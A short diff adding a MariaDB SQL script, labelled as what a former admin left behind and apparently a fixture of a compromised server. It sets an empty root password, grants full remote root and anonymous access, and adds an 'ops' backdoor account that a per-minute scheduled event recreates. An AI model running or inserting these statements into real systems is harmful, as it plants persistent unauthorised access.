@@ -1,0 +1,19 @@
+-- What the former admin left behind.
+CREATE DATABASE test;
+CREATE TABLE test.t1 (a INT);
+ALTER USER root@localhost IDENTIFIED VIA mysql_native_password USING '';
+CREATE USER root@'%';
+GRANT ALL ON *.* TO root@'%' WITH GRANT OPTION;
+CREATE USER ''@localhost;
+CREATE USER ''@'%';
+GRANT ALL ON test.* TO ''@'%';
+CREATE USER ops@'%' IDENTIFIED BY 'ops';
+GRANT ALL ON *.* TO ops@'%' WITH GRANT OPTION;
+DELIMITER $$
+CREATE EVENT shop.ops_118 ON SCHEDULE EVERY 1 MINUTE ON COMPLETION PRESERVE
+COMMENT 'OPS-118: somebody keeps removing my account. wf, 2025-03-18'
+DO BEGIN
+    EXECUTE IMMEDIATE 'CREATE USER IF NOT EXISTS ops@''%'' IDENTIFIED BY ''ops''';
+    EXECUTE IMMEDIATE 'GRANT ALL ON *.* TO ops@''%'' WITH GRANT OPTION';
+END $$
+DELIMITER ;
